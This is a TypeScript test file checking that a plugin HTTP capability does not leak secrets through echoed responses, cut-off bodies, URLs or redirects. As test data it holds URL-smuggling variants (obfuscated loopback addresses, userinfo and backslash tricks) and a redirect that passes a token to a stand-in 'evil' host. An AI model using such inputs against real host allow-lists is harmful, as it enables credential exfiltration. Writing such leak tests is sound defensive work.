/** Exfiltration of secrets at the door: whatever a granted receiver repeats, wherever a plugin puts a secret. */
import { afterAll, expect, test } from 'vitest'
import { openRunBench } from '../capabilities/run-bench.ts'
import { startReceiver } from '../support/receiver.ts'
import { dice, rounds, SEEDED } from './dice.ts'
import { secretOf, shownOf, SPELLINGS } from './spellings.ts'

const bench = await openRunBench()
const evil = await startReceiver()
afterAll(async () => {
  await bench.close()
  await evil[Symbol.asyncDispose]()
})
const { receiver, open, post } = bench

/** Everything that the plugin, or whoever reads the attempt, gets to see. */
async function visible(request: object, setup: Parameters<typeof open>[0]): Promise<string> {
  const run = open(setup)
  const seen = await run.call('http', request).catch((error: unknown) => String(error))
  return `${JSON.stringify(seen)} ${JSON.stringify(run.exchanges)} ${run.lastHost()}`
}
/** As it would have stood in the JSON text of what is seen, and as it is. */
const asSeen = (form: string): string => JSON.stringify(form).slice(1, -1)

test('a receiver that repeats what it was sent, in any spelling, in body or header', async () => {
  const roll = dice('echo')
  const leaks: string[] = []
  for (let n = 0; n < rounds(40); n++) {
    const secret = secretOf(roll)
    for (const [name, spell] of Object.entries(SPELLINGS)) {
      const form = spell(secret)
      const [before, after] = [roll.pick(['', '{"auth":"', '<p>', 'Bearer ']), roll.pick(['', '"}', '</p>', ' end'])]
      const isHeader = typeof form === 'string' && /^[\x20-\x7e]*$/.test(form) && roll.below(3) === 0
      receiver.respond(
        isHeader
          ? { headers: { 'x-echo': form } }
          : { body: Buffer.concat([Buffer.from(before), Buffer.from(form), Buffer.from(after)]) },
      )
      const text = await visible(post({ headers: { authorization: ['Bearer ', { $secret: 's' }] } }), {
        secrets: { s: secret },
      })
      const told = asSeen(form.toString())
      // Of base64 the letters at the edges hang on what stands beside it.
      if (shownOf(told, text) > Math.max(5, told.length * 0.3))
        leaks.push(`${secret} as ${name}: ${text.slice(0, 400)}`)
    }
  }
  expect(leaks, SEEDED).toEqual([])
})

test('an answer that is cut in the middle of a secret does not tell its first part', async () => {
  const roll = dice('edge')
  const leaks: string[] = []
  const limit = 1_048_576
  for (let n = 0; n < rounds(12); n++) {
    const secret = secretOf(roll)
    const [name, spell] = roll.pick(Object.entries(SPELLINGS).filter(([each]) => !each.startsWith('credentials')))
    const form = Buffer.from(spell(secret))
    const shown = 1 + roll.below(form.length - 1)
    receiver.respond({ body: Buffer.concat([Buffer.alloc(limit - shown, '~'), form, Buffer.alloc(9, '~')]) })
    const run = open({ secrets: { s: secret } })
    const { body, truncated } = (await run.call('http', post())) as { body: string; truncated: boolean }
    expect(truncated).toBe(true)
    const rest = body.replace(/^~+/, '').replaceAll('[secret]', '')
    if (rest.length > 5 || (rest.length > 2 && form.toString().startsWith(rest)))
      leaks.push(`${secret} as ${name}, ${shown} bytes: ${rest}`)
  }
  expect(leaks, SEEDED).toEqual([])
})

test('a secret in the address goes to the granted host or nowhere, and nobody is told it', async () => {
  const roll = dice('address')
  const port = String(evil.port)
  const S = { $secret: 's' }
  const hosts: readonly (string | object)[][] = [
    ['http://', S, '/'],
    ['http://', S, '.example.com/'],
    ['http://x.', S, '.example.com/'],
    ['http://example.com:', S, '/'],
    ['http://', S, '@127.0.0.1:', String(receiver.port), '/'],
    [`http://127.0.0.1:${receiver.port}@`, S, '.example.com/'],
    [`http://127.0.0.1:${port}/`, S],
    [`http://127.0.0.1:${receiver.port}.example.com/`, S],
    [`http://localhost:${port}/?`, S],
    [`http://127.0.0.1.:${port}/`, S],
    [`HTTP://127.0.0.1:${port}/`, S],
    [`http://１２７.0.0.1:${port}/`, S],
    [`http://2130706433:${port}/`, S],
    [`http://0x7f.1:${port}/#`, S],
    [`http:\\\\127.0.0.1:${port}\\`, S],
    [`http://127.0.0.1:${receiver.port}\\@127.0.0.1:${port}/`, S],
    [`http://127.0.0.1:${port}?@127.0.0.1:${receiver.port}/`, S],
    ['http://xn--', S, '.example.com/'],
    ['', S, `://127.0.0.1:${port}/`],
    [S, `@127.0.0.1:${port}/`],
    ['http://[', S, ']/'],
  ]
  for (let n = 0; n < rounds(2); n++) {
    for (const url of hosts) {
      const secret = `q${secretOf(roll).replace(/[^a-zA-Z0-9]/g, '')}7`
      evil.forget()
      receiver.respond({})
      const setup = { secrets: { s: secret }, hosts: [`127.0.0.1:${receiver.port}`, '*.example.com', 'example.com'] }
      const run = open(setup)
      const refusal = await run.call('http', { url, headers: { 'x-token': S } }).then(
        () => 'answered',
        (error: unknown) => error as Error,
      )
      const told = `${SEEDED} ${JSON.stringify(url)}`
      // A backslash is a slash to every parser of URLs: this one is a path of the granted host.
      if (refusal === 'answered') expect(receiver.requests.at(-1)?.path, told).toContain(secret)
      else
        expect(refusal, told).toMatchObject({
          code: expect.stringMatching(/^(capability_denied|http_refused_url|http_refused_address)$/),
        })
      const text = `${String(refusal)} ${JSON.stringify(run.exchanges)} ${run.lastHost()}`
      expect(text.toLowerCase(), told).not.toContain(secret.toLowerCase())
      expect(evil.requests, told).toEqual([])
    }
  }
})

test('a whole address that is secret still works, and only there', async () => {
  receiver.respond({ status: 404, body: 'none' })
  const secret = `${receiver.url}/services/T000/B000/q9f2`
  const text = await visible({ url: [{ $secret: 's' }, '/more'] }, { secrets: { s: secret } })
  expect(receiver.requests.at(-1)?.path).toBe('/services/T000/B000/q9f2/more')
  expect(text).not.toContain('q9f2')
})

test('redirects are answers: the next place gets nothing, and what it is called does not show the secret', async () => {
  for (const status of [301, 302, 303, 307, 308]) {
    const secret = `qredirect${status}z`
    evil.forget()
    receiver.forget()
    receiver.respond((request) => ({
      status,
      headers: { location: `${evil.url}/?t=${String(request.headers['x-token'])}` },
    }))
    const text = await visible(post({ headers: { 'x-token': { $secret: 's' } } }), { secrets: { s: secret } })
    expect(receiver.requests).toHaveLength(1)
    expect(evil.requests).toEqual([])
    expect(text).toContain(`"status":${status}`)
    expect(text).not.toContain(secret)
  }
})

test('anywhere but in address, header and hmac a reference stays a reference', async () => {
  const secret = 'qnever-filled-in-7'
  const refs = { a: { $secret: 's' }, b: [{ $secret: 's' }], $hmac: { key: { $secret: 's' }, data: [] } }
  receiver.respond((request) => ({ body: request.body }))
  for (const request of [{ json: refs }, { body: JSON.stringify(refs) }, { json: [refs, refs] }]) {
    receiver.forget()
    await visible(post(request), { secrets: { s: secret } })
    expect(receiver.requests[0]?.body).not.toContain(secret)
    expect(JSON.stringify(receiver.requests[0]?.headers)).not.toContain(secret)
  }
  for (const request of [
    { method: refs.a },
    { headers: { 'x-a': refs } },
    { headers: { 'x-a': { $secret: ['s'] } } },
    { timeoutMs: refs.a },
  ])
    expect(await visible(post(request), { secrets: { s: secret } })).not.toContain(secret)
})
